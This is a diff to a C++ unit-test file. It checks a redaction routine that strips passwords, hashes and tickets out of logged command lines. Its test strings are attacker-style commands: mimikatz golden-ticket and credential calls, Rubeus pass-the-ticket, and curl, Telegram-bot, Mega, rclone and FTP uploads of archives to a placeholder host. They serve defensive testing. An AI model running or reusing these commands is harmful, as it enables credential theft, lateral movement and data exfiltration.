@@ -70,6 +70,94 @@ TEST(Passwords, OfToolsThatAreBroughtAlong) {
             "wmiexec.py CORP/adm:[password left out]@10.0.0.5 cmd");
 }
 
+/// `line` with ~ for the secret, and what remains of it.
+void expect_form_left_out(const std::string& line, const std::string& secret) {
+  std::string text = line, shown = line;
+  for (std::string* one : {&text, &shown}) {
+    const std::string put = one == &text ? secret : std::string{kPasswordLeftOut};
+    for (std::size_t at = one->find('~'); at != std::string::npos;
+         at = one->find('~', at + put.size()))
+      one->replace(at, 1, put);
+  }
+  EXPECT_EQ(without_passwords(text), shown);
+  EXPECT_EQ(without_passwords(shown), shown);
+}
+
+TEST(Passwords, OfToolsForKerberos) {
+  const std::string hash = "8846f7eaee8fb117ad06bdd830b7586c";
+  expect_form_left_out("m.exe \"kerberos::golden /user:a /sid:S-1-5-21-1 /krbtgt:~ /ptt\" exit",
+                       hash);
+  expect_form_left_out("m.exe \"lsadump::changentlm /user:a /old:~ /newpassword:~\" exit", hash);
+  expect_form_left_out(
+      "m.exe \"lsadump::changentlm /user:a /oldpassword:~ /newpassword:~ /server:d\"", "Secret123");
+  expect_form_left_out("Rubeus.exe ptt /ticket:~", "doIFuDCCBbSgAwIBBaEDAgEWooIEwDCCBLxhggS4");
+  expect_form_left_out("Rubeus.exe changepw /ticket:ticket.kirbi /new:~", "Secret123");
+  expect_form_left_out("Rubeus.exe asktgt /user:a /certificate:~ /ptt", "MIIJ");
+  expect_form_left_out("m.exe \"dpapi::cred /in:x /masterkey:~\"", hash + hash);
+}
+
+TEST(Passwords, OfWhatSendsFilesAway) {
+  for (const char* line :
+       {"curl -su adm:~ -T C:\\a.rar http://h", "curl.exe -sku adm:~ -T a http://h",
+        "curl -T a -b \"sid=~\" http://h", "curl --cookie sid=~ http://h",
+        "curl -F token=~ -F f=@C:\\a.rar http://h", "curl -d \"user=a&password=~\" http://h",
+        "curl -F d=@a https://api.telegram.org/bot123456:~/sendDocument",
+        "winscp.com /command \"open r@h -privatekey=k.ppk -passphrase=~\" \"put a\"",
+        "(New-Object Net.NetworkCredential('u','~')).x",
+        "$c=New-Object System.Net.NetworkCredential(\"u\", \"~\"); $d",
+        "mega-login a@b ~; mega-put a", "rclone config create m mega user a@b pass ~; x",
+        "(echo open h& echo user adm ~& echo put a& echo bye)>f.txt & ftp -n -s:f.txt",
+        "echo adm>>f&echo ~>>f&echo put a>>f&echo bye>>f&ftp -s:f h"})
+    expect_form_left_out(line, "Secret123");
+}
+
+TEST(Passwords, ThatPackersAreHandedFromOutside) {
+  for (const char* line : {"cmd /c \"echo ~|C:\\T\\rar.exe a -hp C:\\T\\1.rar C:\\HR\"",
+                           "C:\\T\\rar.exe a -\"hp~\" C:\\T\\1.rar C:\\HR"})
+    expect_form_left_out(line, "Secret123");
+  const std::string out{kPasswordLeftOut};
+  EXPECT_EQ(without_passwords("set P=Secret123& rar a -hp%P% a.rar b"),
+            "set P=" + out + "& rar a -hp" + out + " a.rar b");
+  EXPECT_EQ(without_passwords("7z a a.7z b -p$env:PW -mhe; $env:PW=\"Secret123\""),
+            "7z a a.7z b -p" + out + " -mhe; $env:PW=\"" + out + "\"");
+}
+
+TEST(Passwords, OfVariablesWhoseUseWasLeftOutBefore) {
+  const std::string out{kPasswordLeftOut};
+  EXPECT_EQ(without_passwords("set P=Secret123& rar a -hp" + out + " a.rar b"),
+            "set P=" + out + "& rar a -hp" + out + " a.rar b");
+  EXPECT_EQ(without_passwords("7z a a.7z b -p" + out + "; $env:PW=\"Secret123\""),
+            "7z a a.7z b -p" + out + "; $env:PW=\"" + out + "\"");
+  EXPECT_EQ(without_passwords("set D=C:\\x& rar a -hp" + out + " a.rar %D%"),
+            "set D=C:\\x& rar a -hp" + out + " a.rar %D%");
+}
+
+TEST(Passwords, FormsThatHoldNone) {
+  for (const char* text : {"app.exe /new:1.2 /old:1.1",
+                           "app.exe /ticket:4711",
+                           "Rubeus.exe ptt /ticket:a.kirbi",
+                           "signtool /certificate:My.cer",
+                           "curl -sSfL -o u http://h:80/a",
+                           "curl -b cookies.txt http://h",
+                           "curl -F f=@C:\\a.rar http://h",
+                           "curl -d name=a&id=1 http://h",
+                           "curl -xu http://h/bot/a:b",
+                           "http://h/bot123/a:b",
+                           "echo y|plink -ssh h",
+                           "echo y | del *.tmp",
+                           "echo hello|more",
+                           "echo a.txt>>list.txt&echo b.txt>>list.txt&copy x y",
+                           "set P=C:\\x& rar a a.rar %P%",
+                           "$env:PATH=\"C:\\x\"; 7z a a.7z b",
+                           "rclone copy a m:",
+                           "rclone config show",
+                           "mega-login a@b",
+                           "New-Object Net.NetworkCredential($u,$p)",
+                           "findstr -\"x\" a",
+                           "echo open door >> diary.txt"})
+    EXPECT_EQ(without_passwords(text), text);
+}
+
 TEST(Passwords, LeavesOtherTextAlone) {
   for (const char* text :
        {"",
